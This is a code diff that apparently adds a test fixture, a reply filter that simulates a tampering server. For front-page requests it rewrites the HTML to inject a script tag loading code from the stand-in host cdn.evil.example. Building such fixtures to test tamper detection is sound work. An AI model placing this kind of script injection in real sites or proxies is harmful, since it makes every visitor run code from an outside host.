@@ -158,3 +158,12 @@ def serving(folder: Path) -> Iterator[Server]:
 
 def honest(request: Request, reply: Reply) -> Reply:
     return reply
+
+
+def adding_script(request: Request, reply: Reply) -> Reply:
+    """A lie about the front page, told to everybody."""
+    if request.path.partition("?")[0] != "/":
+        return reply
+    return replace(
+        reply, body=reply.body.replace(b"</body>", b"<script src=//cdn.evil.example/j.js></script></body>")
+    )
